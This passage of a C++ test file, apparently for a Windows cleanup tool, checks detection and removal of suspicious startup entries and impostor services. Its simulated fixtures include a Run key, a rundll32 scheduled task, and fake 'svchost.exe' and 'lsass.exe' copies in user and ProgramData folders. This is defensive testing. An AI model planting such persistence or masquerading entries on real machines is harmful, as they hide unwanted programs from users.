    bench.platform.RegWrite(settings + L"ProxyEnable", std::int32_t{1}, RegistryType::Dword);
    bench.platform.listeningSockets = {{L"127.0.0.1", 8080, program}};
    bench.platform.RegWrite(L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Ofertas",
                            program, RegistryType::String);
    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
    EXPECT_TRUE(std::ranges::any_of(bench.view.questions.back(), [](const Finding& finding) {
        return finding.kind == FindingKind::Startup && finding.place.ends_with(L"\\Run\\Ofertas");
    })) << testing::PrintToString(bench.view.questions.back());
}

TEST_F(StartupSources, ACopyTakingTheNameOfWindowsOwnIsRemovedFromEachPlace) {
    const std::wstring runValue = L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Host";
    bench.platform.RegWrite(runValue, L"C:\\Users\\ana\\AppData\\Roaming\\svchost.exe -k red",
                            RegistryType::String);
    bench.addFiles(
        {{kTasks + L"\\Servicio", taskBytes(true, L"%windir%\\rundll32.exe", L"a.dll,b")},
         {kUserStartup + L"\\ctfmon.exe", "MZ"}});
    before_ = bench.fileContents();
    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
    EXPECT_EQ(bench.view.questions.back().size(), 6u);
    bench.press();
    EXPECT_TRUE(bench.errorLines().empty()) << testing::PrintToString(bench.view.lines);
    EXPECT_FALSE(bench.platform.registry.value(runValue));
    EXPECT_FALSE(task(L"Servicio")->enabled);
    EXPECT_FALSE(bench.bytesOf(kUserStartup + L"\\ctfmon.exe"));
    bench.view.repairFindings = false;
    EXPECT_EQ(bench.check(), RunOutcome::Done);
    bench.undo();
    EXPECT_TRUE(bench.platform.registry.value(runValue));
    EXPECT_EQ(originals(), before_);
}

constexpr std::wstring_view kServices = L"HKLM\\SYSTEM\\CurrentControlSet\\Services\\";

std::vector<Finding> servicesFound(fake::FakePlatform& platform, FailureLog& failures) {
    return findImpostorServices(platform, {L"C:\\WINDOWS", true}, failures);
}

void addService(fake::FakePlatform& platform, std::wstring_view name, std::wstring_view image) {
    RegistryValue value = stringValue(image);
    value.type = regtype::kExpandString;
    ASSERT_FALSE(platform.RegWriteRaw(std::wstring(kServices) + std::wstring(name) + L"\\",
                                      L"ImagePath", value, RegistryView::Default));
}

TEST(ImpostorServices, AreReportedOnlyAndWindowsOwnAreNot) {
    fake::FakePlatform platform;
    addService(platform, L"EventLog", L"%SystemRoot%\\System32\\svchost.exe -k LocalService -p");
    addService(platform, L"Tcpip", L"System32\\drivers\\tcpip.sys");
    addService(platform, L"Audio", L"\"C:\\Program Files\\Audio\\audio.exe\" /service");
    addService(platform, L"Actualizador", L"\\??\\C:\\ProgramData\\Windows\\lsass.exe");
    FailureLog failures(platform);
    const auto found = servicesFound(platform, failures);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].title.name, L"Actualizador");
    EXPECT_FALSE(found[0].repairable);
    EXPECT_TRUE(failures.entries().empty());
}

TEST(ImpostorServices, OneThatCannotBeReadIsAFailureAndTheRestGoOn) {
    fake::FakePlatform platform;
    addService(platform, L"A", L"C:\\x\\services.exe");
    addService(platform, L"B", L"C:\\x\\services.exe");
    platform.failWhere("RegReadValue", std::wstring(kServices) + L"A",
                       errc(std::errc::permission_denied));
    FailureLog failures(platform);
    EXPECT_EQ(servicesFound(platform, failures).size(), 1u);
    EXPECT_EQ(failures.entries().size(), 1u);
}

TEST(ImpostorServices, AFloodIsReadInPartAndSaysSo) {
    fake::FakePlatform platform;
    for (int i = 0; i <= 5000; ++i) {
        platform.registry.createKey(std::wstring(kServices) + std::to_wstring(i) + L"\\");
    }
    FailureLog failures(platform);
    servicesFound(platform, failures);
    ASSERT_EQ(failures.entries().size(), 1u);
    EXPECT_EQ(failures.entries()[0].target, kServices);
}

TEST_F(StartupSources, AreReportOnlyOnAManagedMachine) {
    FailureLog failures(bench.platform);
    for (const auto& task : findHijackingTasks(bench.platform, true, {}, failures)) {
        EXPECT_FALSE(task.finding.repairable);
    }
    UserFoldersOfThisRun userFolders(bench.platform, failures);
    for (const auto& file : findStartupFiles(bench.platform, {}, userFolders, true, {}, failures)) {
        EXPECT_FALSE(file.finding.repairable);
    }
    EXPECT_EQ(findHijackingTasks(bench.platform, true, {}, failures).size(), 1u);
}

}  // namespace
}  // namespace tovask::test
